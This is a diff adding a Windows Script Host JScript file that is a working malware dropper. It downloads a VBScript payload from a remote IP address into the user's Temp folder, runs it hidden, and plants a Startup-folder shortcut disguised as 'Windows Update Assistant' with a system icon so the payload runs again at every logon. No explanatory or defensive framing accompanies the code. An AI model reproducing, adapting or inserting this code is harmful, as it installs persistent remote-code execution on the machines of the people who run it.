@@ -1,0 +1,16 @@
+var sh = WScript.CreateObject("WScript.Shell");
+var startup = sh.SpecialFolders("Startup");
+var drop = sh.ExpandEnvironmentStrings("%LOCALAPPDATA%") + "\\Temp\\wupd.vbs";
+var x = new ActiveXObject("MSXML2.XMLHTTP");
+x.open("GET", "http://203.0.113.201/a/wupd.vbs", false);
+x.send();
+var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(drop, true);
+f.Write(x.responseText);
+f.Close();
+var lnk = sh.CreateShortcut(startup + "\\Windows Update Assistant.lnk");
+lnk.TargetPath = "C:\\Windows\\System32\\wscript.exe";
+lnk.Arguments = "//B \"" + drop + "\"";
+lnk.IconLocation = "C:\\Windows\\System32\\shell32.dll,46";
+lnk.WindowStyle = 7;
+lnk.Save();
+sh.Run("wscript.exe //B \"" + drop + "\"", 0, false);
